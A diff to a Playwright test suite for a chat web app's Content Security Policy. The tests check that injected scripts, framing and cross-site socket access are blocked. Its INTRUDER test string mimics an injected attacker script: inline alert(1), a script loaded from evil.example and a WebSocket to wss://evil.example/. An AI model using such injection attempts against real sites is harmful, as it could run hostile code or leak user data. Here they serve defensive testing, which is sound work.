@@ -6,8 +6,9 @@ import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, before, type TestContext, test } from 'node:test';
+import { isDeepStrictEqual } from 'node:util';
 import type { Browser, Page } from 'playwright-core';
-import { type Cleanup, eventually } from '../helpers/eventually.ts';
+import { type Cleanup, DEADLINE_MS, eventually } from '../helpers/eventually.ts';
 import { type Gateway, startGateway } from '../helpers/gateway.ts';
 import { ChatPage, openBrowser, openPage } from '../helpers/page/browser.ts';
 import { builtRoom } from '../helpers/room.ts';
@@ -169,10 +170,10 @@ test('no address of the page with a script in it shows the script', async () => 
   }
 });
 
-/** Tries what an injected script would, and reports what the policy stopped. */
+/** Tries what an injected script would, and notes what the policy stopped. */
 const INTRUDER = `(async () => {
-  const told = new Set();
-  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.add(effectiveDirective));
+  window.stopped = [];
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.push(effectiveDirective));
   const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
   add('script', { textContent: 'alert(1)' });
   add('script', { src: 'https://evil.example/x.js' });
@@ -186,23 +187,30 @@ const INTRUDER = `(async () => {
     new WebSocket('wss://evil.example/');
   } catch {}
   setTimeout('alert(1)');
-  await new Promise((resolve) => setTimeout(resolve, 200));
-  return [...told];
 })()`;
+
+const STOPPED = [
+  'connect-src',
+  'frame-src',
+  'img-src',
+  'script-src',
+  'script-src-attr',
+  'script-src-elem',
+  'style-src-elem',
+];
 
 test('injected script is stopped: no inline code, no eval, no other host', async (t) => {
   const { gateway } = open;
   const { page, wrong } = await watchedPage(t, gateway);
-  const stopped = await page.page.evaluate<string[]>(INTRUDER);
-  assert.deepEqual(stopped.toSorted(), [
-    'connect-src',
-    'frame-src',
-    'img-src',
-    'script-src',
-    'script-src-attr',
-    'script-src-elem',
-    'style-src-elem',
-  ]);
+  await page.page.evaluate(INTRUDER);
+  let stopped: string[] = [];
+  await eventually(
+    async () => {
+      stopped = [...new Set(await page.page.evaluate<string[]>('stopped'))].toSorted();
+      return isDeepStrictEqual(stopped, STOPPED);
+    },
+    () => `the policy stopped ${stopped}`,
+  );
   // The other reports are the attempts themselves.
   assert.deepEqual(
     wrong.filter((what) => what.startsWith('dialog')),
@@ -245,7 +253,7 @@ test('page of another site can neither frame the page, nor read or send through 
       socket.onopen = () => socket.send('{"type":"hello"}');
       socket.onmessage = () => resolve('heard');
       socket.onclose = ({ code }) => resolve(code);
-      setTimeout(() => resolve('nothing'), 5000);
+      setTimeout(() => resolve('nothing'), ${DEADLINE_MS});
     });
     return [read, blind, code];
   })()`);
@@ -321,7 +329,10 @@ test('page asks for the passphrase, reports a wrong one, and keeps the right one
   await field.fill('sésamo');
   await tab.getByRole('button', { name: 'Entrar' }).click();
   await tab.getByText('ya dentro').waitFor();
-  assert.equal(await doors.count(), 3);
+  await eventually(
+    async () => (await doors.count()) === 3,
+    () => 'not all buttons are shown',
+  );
 
   const [download] = await Promise.all([tab.waitForEvent('download'), downloads(tab)]);
   assert.equal(download.suggestedFilename(), 'tertulia.txt');
